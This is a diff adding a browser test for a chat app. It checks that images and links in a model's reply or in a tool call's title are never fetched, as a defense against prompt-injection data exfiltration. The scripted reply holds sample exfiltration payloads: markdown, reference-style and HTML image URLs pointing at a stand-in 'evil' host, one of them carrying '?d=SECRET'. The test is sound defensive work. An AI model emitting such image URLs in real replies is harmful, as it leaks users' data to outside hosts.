@@ -218,3 +218,93 @@ def test_with_a_password_every_url_asks_for_it_first(page, tmp_path):
         assert "let me in" not in page.url
     finally:
         app.stop()
+
+
+class CountingImageHost:
+    """A real HTTP server on 127.0.0.2 (not the app's 127.0.0.1) that counts every request it gets."""
+
+    PIXEL = bytes.fromhex(
+        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060"
+        "0000000500010d0a2db40000000049454e44ae426082"
+    )
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.paths: list[str] = []
+        host = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # the name http.server calls
+                host.paths.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.end_headers()
+                self.wfile.write(CountingImageHost.PIXEL)
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler)
+        self.base = f"http://127.0.0.2:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_a_reply_with_remote_images_makes_the_browser_fetch_nothing(page, tmp_path):
+    """Prompt-injection exfiltration: images in a reply or a tool call's title must not be fetched.
+
+    The model is scripted and served over real HTTP; the image host is a real server on
+    127.0.0.2. Every request the page makes is recorded; at the end the page fetches the host
+    on purpose, to show that a request there would have been seen.
+    """
+    from glm_client import ToolCall
+    from glm_client.server import create_app, serve_in_thread
+    from glm_client.testing import ScriptedClient
+
+    images = CountingImageHost()
+    evil = images.base
+    reply = (
+        f'Summary done. ![pixel]({evil}/inline.png?d=SECRET) ![ref][r] <img src="{evil}/html.png"> '
+        f"[docs]({evil}/link) <{evil}/autolink>\n\n[r]: {evil}/reference.png\n\nReply finished."
+    )
+    tool_call = ToolCall("get_current_time", {"timezone": f"![t]({evil}/label.png)"})
+    model = ScriptedClient([reply, [tool_call], "Tool turn finished."])
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    try:
+        with serve_in_thread(create_app(model)) as base_url:
+            app = App(tmp_path / "data", {"OPENAI_BASE_URL": f"{base_url}/v1"}).start()
+            try:
+                page.goto(app.url)
+                page.get_by_test_id("stChatInputTextArea").wait_for()
+                send(page, "Summarise the uploaded file")
+                page.get_by_text("Reply finished.").wait_for()
+                page.wait_for_timeout(1500)  # time for any image the page drew to be fetched
+                assert [url for url in requests if url.startswith(evil)] == []
+                shoot(page, "no_remote_images")
+                assert page.get_by_text("d=SECRET").count() >= 1  # the URL is shown, as text
+
+                page.goto(f"{app.url}/tool")
+                page.get_by_test_id("stChatInputTextArea").wait_for()
+                send(page, "What time is it?")
+                page.get_by_text("Tool turn finished.").wait_for()
+                page.wait_for_timeout(1500)
+                assert [url for url in requests if url.startswith(evil)] == []
+                assert images.paths == []
+                assert page.get_by_text("label.png").count() >= 1  # the call's title, as text
+
+                # The control: the browser can reach that host, and such a request is recorded.
+                assert page.evaluate(f"fetch('{evil}/control').then(r => r.status)") == 200
+                assert [url for url in requests if url.startswith(evil)] == [f"{evil}/control"]
+                assert images.paths == ["/control"]
+            finally:
+                app.stop()
+    finally:
+        images.close()
